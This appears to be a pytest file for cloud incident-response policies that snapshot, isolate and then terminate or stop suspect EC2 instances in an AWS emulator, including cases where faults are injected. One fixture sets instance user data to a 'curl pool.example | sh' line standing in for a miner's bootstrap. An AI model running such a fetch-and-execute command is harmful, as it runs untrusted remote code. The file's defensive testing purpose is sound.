"""X7 snapshot-before-terminate and isolate, in-process against the emulator.

moto completes snapshots at once and never fails them, so the faults are
injected by wrapping botocore's client call in the test
(``tests.support.inject_faults``): an API error on CreateSnapshots, a
snapshot that DescribeSnapshots reports in state ``error`` or ``pending``
forever, a Throttling error on one call. Everything else reaches the emulator.
"""
import json
import os

import pytest
from c7n.exceptions import PolicyExecutionError

from custodian_ext.actions import snapshot as snapshot_module
from custodian_ext_dev.emulator import AMI_X86
from tests.support import (client_error, fast_client, inject_faults, load_policy, policy_vars,
                          run_policy)

TERMINATE = load_policy('respond/x7.yml', 'x7-snapshot-then-terminate')
STOP_OUTSIDE = load_policy('respond/x7.yml', 'x7-snapshot-then-stop-outside-allowed-regions')
ISOLATE = load_policy('respond/x7.yml', 'x7-isolate-instances')
CONTAIN = {'Key': 'custodian-ext:contain', 'Value': 'incident'}


def launch(ec2, count=1, tags=(), user_data='', data_volume=True):
    # The root mapping is explicit: without it moto attaches the root volume at
    # /dev/sda1 while the image's RootDeviceName is /dev/xvda, which AWS never does.
    mappings = [{'DeviceName': '/dev/xvda', 'Ebs': {'VolumeSize': 8}}]
    if data_volume:
        mappings.append({'DeviceName': '/dev/sdf',
                         'Ebs': {'VolumeSize': 1, 'DeleteOnTermination': False}})
    return [i['InstanceId'] for i in ec2.run_instances(
        ImageId=AMI_X86, MinCount=count, MaxCount=count, UserData=user_data,
        BlockDeviceMappings=mappings,
        TagSpecifications=[{'ResourceType': 'instance', 'Tags': list(tags) + [
            {'Key': 'Name', 'Value': 'miner'}]}])['Instances']]


def state(ec2, iid):
    [reservation] = ec2.describe_instances(InstanceIds=[iid])['Reservations']
    return reservation['Instances'][0]['State']['Name']


def results(out, policy, action='snapshot-before-terminate'):
    with open(os.path.join(out, policy, f'action-results-{action}.json')) as fh:
        return {r['resource_id']: r for r in json.load(fh)}


def evidence_snapshots(ec2, iid):
    snaps = ec2.describe_snapshots(OwnerIds=['self'], Filters=[
        {'Name': 'tag:custodian-ext:instance-id', 'Values': [iid]}])['Snapshots']
    return {s['VolumeId']: {t['Key']: t['Value'] for t in s['Tags']} for s in snaps}


def test_keeps_evidence_snapshots_every_volume_isolates_then_terminates(aws, tmp_path, monkeypatch):
    """Happy path, with evidence in S3 and one Throttling error on TerminateInstances
    that c7n's retry absorbs."""
    ec2, s3 = fast_client(aws, 'ec2'), fast_client(aws, 's3')
    bucket = f'evidence-{aws.id}'  # bucket names are global in the emulator too
    s3.create_bucket(Bucket=bucket)
    running = launch(ec2, tags=[CONTAIN], user_data='#!/bin/sh\ncurl pool.example | sh')[0]
    stopped = launch(ec2, tags=[CONTAIN])[0]
    ec2.stop_instances(InstanceIds=[stopped])
    other = launch(ec2, tags=[{'Key': 'custodian-ext:contain', 'Value': 'another-incident'}])[0]
    volumes = {i['InstanceId']: {m['Ebs']['VolumeId']: m['DeviceName']
                                 for m in i['BlockDeviceMappings']}
               for r in ec2.describe_instances(InstanceIds=[running, stopped])['Reservations']
               for i in r['Instances']}
    throttled = []

    def throttle_once(params, call):
        if not throttled:
            throttled.append(params)
            raise client_error('RequestLimitExceeded', 'TerminateInstances')
        return call()

    monkeypatch.setattr('c7n.utils.time.sleep', lambda s: None)  # c7n's retry back-off
    seen = inject_faults(monkeypatch, TerminateInstances=throttle_once)
    found = run_policy(TERMINATE, policy_vars(evidence_bucket=bucket, incident_id='incident'),
                       account=aws, output_dir=str(tmp_path))

    assert {r['InstanceId'] for r in found} == {running, stopped}
    assert state(ec2, running) == 'terminated' and state(ec2, stopped) == 'terminated'
    assert state(ec2, other) == 'running'
    assert len([op for op, _ in seen if op == 'TerminateInstances']) == 3  # 2 + 1 retried
    res = results(str(tmp_path), 'x7-snapshot-then-terminate')
    for iid in (running, stopped):
        assert res[iid]['status'] == 'done' and res[iid]['reason'] == 'terminated'
        snaps = evidence_snapshots(ec2, iid)
        assert set(snaps) == set(volumes[iid])  # every attached volume, root included
        for vol, tags in snaps.items():
            assert tags['custodian-ext:incident'] == 'incident'
            assert tags['custodian-ext:device'] == volumes[iid][vol]
            assert tags['custodian-ext:policy'] == 'x7-snapshot-then-terminate'
        assert {s['state'] for s in res[iid]['snapshots']} == {'completed'}
        _, _, key = res[iid]['evidence'][len('s3://'):].partition('/')
        assert res[iid]['evidence'].startswith(f's3://{bucket}/')
        assert key.startswith(f'incident/{aws.id}/us-east-1/ec2/{iid}/')
        doc = json.loads(s3.get_object(Bucket=bucket, Key=key)['Body'].read())
        assert doc['document']['InstanceId'] == iid
        assert doc['policy'] == 'x7-snapshot-then-terminate'
    assert doc['document']['BlockDeviceMappings']
    running_doc = json.loads(s3.get_object(
        Bucket=bucket, Key=res[running]['evidence'].split('/', 3)[3])['Body'].read())
    assert running_doc['document']['c7n:UserData']  # the miner's bootstrap script
    # Isolated before the snapshots: every network interface in the forensic group.
    group = res[running]['isolation']['forensic_group']
    sg = ec2.describe_security_groups(GroupIds=[group])['SecurityGroups'][0]
    assert sg['IpPermissions'] == [] and sg['IpPermissionsEgress'] == []
    assert list(res[running]['isolation']['original_groups'].values())[0] != [group]


def test_one_failure_per_kind_leaves_that_instance_alone_and_the_rest_complete(
        aws, tmp_path, monkeypatch):
    """In one batch: CreateSnapshots fails for one instance, another's snapshot ends in
    state error, a third's snapshot is deleted before it is checked (DescribeSnapshots
    then fails for the whole batch), the fourth completes. Only the fourth is
    terminated; the run fails after all four, naming the three."""
    ec2 = fast_client(aws, 'ec2')
    create_fails, snapshot_errors, snapshot_deleted, fine = launch(ec2, count=4, tags=[CONTAIN])
    broken, doomed = [], []

    def create(params, call):
        if params['InstanceSpecification']['InstanceId'] == create_fails:
            raise client_error('ConcurrentSnapshotLimitExceeded', 'CreateSnapshots')
        out = call()
        if params['InstanceSpecification']['InstanceId'] == snapshot_errors:
            broken.append(out['Snapshots'][0]['SnapshotId'])
        if params['InstanceSpecification']['InstanceId'] == snapshot_deleted:
            doomed.append(out['Snapshots'][0]['SnapshotId'])
        return out

    def describe(params, call):
        while doomed:  # deleted while the action waits
            ec2.delete_snapshot(SnapshotId=doomed.pop())
        out = call()
        for s in out['Snapshots']:
            if s['SnapshotId'] in broken:
                s['State'], s['StateMessage'] = 'error', 'injected: internal error'
        return out

    inject_faults(monkeypatch, CreateSnapshots=create, DescribeSnapshots=describe)
    with pytest.raises(PolicyExecutionError, match='failed for 3 of 4 resources'):
        run_policy(TERMINATE, policy_vars(), account=aws, output_dir=str(tmp_path))

    assert state(ec2, create_fails) == 'running'
    assert state(ec2, snapshot_errors) == 'running'
    assert state(ec2, snapshot_deleted) == 'running'
    assert state(ec2, fine) == 'terminated'
    res = results(str(tmp_path), 'x7-snapshot-then-terminate')
    assert res[create_fails]['status'] == 'failed'
    assert 'ConcurrentSnapshotLimitExceeded' in res[create_fails]['reason']
    assert res[create_fails]['reason'].endswith('the instance was left running')
    assert res[create_fails]['evidence'].startswith('output:')  # evidence came first
    assert res[snapshot_errors]['status'] == 'failed'
    assert f'snapshot {broken[0]} of /dev/' in res[snapshot_errors]['reason']
    assert 'ended in state error: injected: internal error' in res[snapshot_errors]['reason']
    assert res[snapshot_deleted]['status'] == 'failed'
    assert 'no longer exists' in res[snapshot_deleted]['reason']
    assert res[fine]['status'] == 'done'
    with open(os.path.join(tmp_path, 'x7-snapshot-then-terminate',
                           f'evidence-ec2-{fine}.json')) as fh:
        assert json.load(fh)['document']['InstanceId'] == fine


def test_snapshots_not_completed_in_time_leave_the_instance_running(aws, tmp_path, monkeypatch):
    """DescribeSnapshots reports 'pending' forever; the bounded wait gives up."""
    ec2 = fast_client(aws, 'ec2')
    [iid] = launch(ec2, tags=[CONTAIN], data_volume=False)

    def pending(params, call):
        out = call()
        for s in out['Snapshots']:
            s['State'], s['Progress'] = 'pending', '42%'
        return out

    clock = [0.0]
    monkeypatch.setattr(snapshot_module.SnapshotBeforeTerminate, 'clock',
                        staticmethod(lambda: clock[0]))
    monkeypatch.setattr(snapshot_module.SnapshotBeforeTerminate, 'sleep',
                        staticmethod(lambda s: clock.__setitem__(0, clock[0] + s)))
    seen = inject_faults(monkeypatch, DescribeSnapshots=pending)
    policy = json.loads(json.dumps(TERMINATE))
    policy['actions'][0]['wait-timeout'] = 60
    with pytest.raises(PolicyExecutionError, match='not completed within 60 seconds'):
        run_policy(policy, policy_vars(), account=aws, output_dir=str(tmp_path))
    assert state(ec2, iid) == 'running'
    assert 'TerminateInstances' not in {op for op, _ in seen}
    polls = len([op for op, _ in seen if op == 'DescribeSnapshots'])
    assert 3 <= polls <= 6  # 5, 10, 20, 25 s apart: bounded, backing off
    res = results(str(tmp_path), 'x7-snapshot-then-terminate')[iid]
    assert '42%' in res['reason'] and res['snapshots'][0]['state'] == 'pending'


def test_termination_protection_is_turned_off_only_when_asked_and_ami_from_evidence(
        aws, tmp_path, monkeypatch):
    """Protection on: the first run fails and keeps everything; with the option it
    terminates, after registering an AMI from the evidence snapshots (moto ignores
    RegisterImage's block device mappings and tags, so the request is checked)."""
    ec2 = fast_client(aws, 'ec2')
    [iid] = launch(ec2, tags=[CONTAIN])
    ec2.modify_instance_attribute(InstanceId=iid, DisableApiTermination={'Value': True})
    with pytest.raises(PolicyExecutionError, match='terminate protection is on'):
        run_policy(TERMINATE, policy_vars(), account=aws, output_dir=str(tmp_path / '1'))
    assert state(ec2, iid) == 'running'
    res = results(str(tmp_path / '1'), 'x7-snapshot-then-terminate')[iid]
    assert 'evidence and snapshots are kept' in res['reason'] and len(res['snapshots']) == 2

    policy = json.loads(json.dumps(TERMINATE))
    policy['actions'][0].update({'disable-termination-protection': True, 'create-ami': True})
    seen = inject_faults(monkeypatch)
    run_policy(policy, policy_vars(), account=aws, output_dir=str(tmp_path / '2'))
    assert state(ec2, iid) == 'terminated'
    res = results(str(tmp_path / '2'), 'x7-snapshot-then-terminate')[iid]
    assert ec2.describe_images(ImageIds=[res['image_id']])['Images'][0]['State'] == 'available'
    [register] = [p for op, p in seen if op == 'RegisterImage']
    assert {m['DeviceName']: m['Ebs']['SnapshotId'] for m in register['BlockDeviceMappings']} == {
        s['device']: s['snapshot_id'] for s in res['snapshots']}
    assert register['RootDeviceName'] == '/dev/xvda'
    [spec] = register['TagSpecifications']
    assert {t['Key']: t['Value'] for t in spec['Tags']}['custodian-ext:instance-id'] == iid
    # protection was turned off only after the AMI existed
    ops = [op for op, _ in seen]
    assert ops.index('RegisterImage') < ops.index('ModifyInstanceAttribute')


def test_outside_allowed_regions_snapshot_then_stop(aws, tmp_path):
    """The r3-3 set, in its safest form: stopped (not terminated) after the snapshots;
    the same policy in an allowed region does nothing."""
    far, near = fast_client(aws, 'ec2', 'eu-north-1'), fast_client(aws, 'ec2', 'us-east-1')
    [miner] = launch(far)
    [home] = launch(near)
    variables = policy_vars(allowed_regions=['us-east-1'])
    run_policy(STOP_OUTSIDE, variables, region='eu-north-1', account=aws,
               output_dir=str(tmp_path / 'far'))
    assert run_policy(STOP_OUTSIDE, variables, region='us-east-1', account=aws,
                      output_dir=str(tmp_path / 'near')) == []
    assert state(far, miner) == 'stopped' and state(near, home) == 'running'
    res = results(str(tmp_path / 'far'), 'x7-snapshot-then-stop-outside-allowed-regions')[miner]
    assert res['status'] == 'done' and res['reason'] == 'stopped'
    assert len(evidence_snapshots(far, miner)) == 2
    tags = {t['Key']: t['Value'] for t in far.describe_instances(InstanceIds=[miner])[
        'Reservations'][0]['Instances'][0]['Tags']}
    assert tags['custodian-ext:contained'] == 'incident'
    assert tags['custodian-ext:isolated'] == 'incident'


def test_evidence_that_cannot_be_written_stops_everything_for_that_instance(aws, tmp_path):
    """The evidence bucket does not exist (a typo in evidence_bucket): no snapshot, no
    isolation, no termination."""
    ec2 = fast_client(aws, 'ec2')
    [iid] = launch(ec2, tags=[CONTAIN])
    def groups():
        inst = ec2.describe_instances(InstanceIds=[iid])['Reservations'][0]['Instances'][0]
        return [[g['GroupId'] for g in e['Groups']] for e in inst['NetworkInterfaces']]

    before = groups()
    with pytest.raises(PolicyExecutionError, match='NoSuchBucket'):
        run_policy(TERMINATE, policy_vars(evidence_bucket='no-such-bucket'), account=aws,
                   output_dir=str(tmp_path))
    assert state(ec2, iid) == 'running' and groups() == before
    assert evidence_snapshots(ec2, iid) == {}
    res = results(str(tmp_path), 'x7-snapshot-then-terminate')[iid]
    assert res['status'] == 'failed' and res['evidence'] == '' and res['snapshots'] == []


def test_isolate_moves_every_interface_into_one_rule_free_group(aws, tmp_path):
    ec2 = fast_client(aws, 'ec2')
    tagged = launch(ec2, count=2, tags=[{'Key': 'custodian-ext:isolate', 'Value': 'incident'}],
                    data_volume=False)
    [untagged] = launch(ec2, data_volume=False)
    before = ec2.describe_instances(InstanceIds=[untagged])['Reservations'][0]['Instances'][0][
        'NetworkInterfaces'][0]['Groups']
    run_policy(ISOLATE, policy_vars(), account=aws, output_dir=str(tmp_path))
    res = results(str(tmp_path), 'x7-isolate-instances', 'isolate')
    groups = {res[i]['forensic_group'] for i in tagged}
    assert len(groups) == 1  # one forensic group per VPC, reused
    [group] = groups
    for iid in tagged:
        inst = ec2.describe_instances(InstanceIds=[iid])['Reservations'][0]['Instances'][0]
        # per network interface (moto does not reflect the change in the instance's SecurityGroups)
        assert [[g['GroupId'] for g in e['Groups']] for e in inst['NetworkInterfaces']] == [[group]]
        assert inst['State']['Name'] == 'running'
        assert res[iid]['evidence'].startswith('output:')
    sg = ec2.describe_security_groups(GroupIds=[group])['SecurityGroups'][0]
    assert sg['IpPermissions'] == [] and sg['IpPermissionsEgress'] == []
    assert ec2.describe_instances(InstanceIds=[untagged])['Reservations'][0]['Instances'][0][
        'NetworkInterfaces'][0]['Groups'] == before
    # Second run: already isolated, nothing changes.
    run_policy(ISOLATE, policy_vars(), account=aws, output_dir=str(tmp_path / 'again'))
    again = results(str(tmp_path / 'again'), 'x7-isolate-instances', 'isolate')
    assert {r['status'] for r in again.values()} == {'skipped'}
